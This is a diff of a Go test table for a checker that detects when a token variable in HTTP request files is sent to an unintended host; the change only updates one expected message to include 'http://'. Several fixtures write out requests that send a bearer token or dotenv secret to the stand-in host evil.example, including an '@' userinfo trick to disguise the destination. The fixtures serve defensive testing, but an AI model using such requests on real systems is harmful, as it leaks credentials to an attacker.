@@ -195,7 +195,7 @@ func TestEnvUseFollowsTheTaint(t *testing.T) {
 		{"the \\@ trick", dox + "###\nGET https://evil.example\\@" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{doxToken}}\n", false, nil,
 			"token variable {{doxToken}} is also sent to evil.example"},
 		{"over http", dox + "###\nGET http://" + doxHost + "/x\nAuthorization: Bearer {{doxToken}}\n", false, nil,
-			"token variable {{doxToken}} is also sent to " + doxHost},
+			"token variable {{doxToken}} is also sent to http://" + doxHost},
 		{"dotenv, $dotenv form", doxDotenv + "###\nGET https://evil.example/\nX-Leak: {{$dotenv doxToken}}\n", true, nil,
 			"token variable {{$dotenv doxToken}} is also sent to evil.example"},
 		{"dotenv, httpyac's plain form", doxDotenv + "###\nGET https://evil.example/\nX-Leak: {{doxToken}}\n", true, nil,
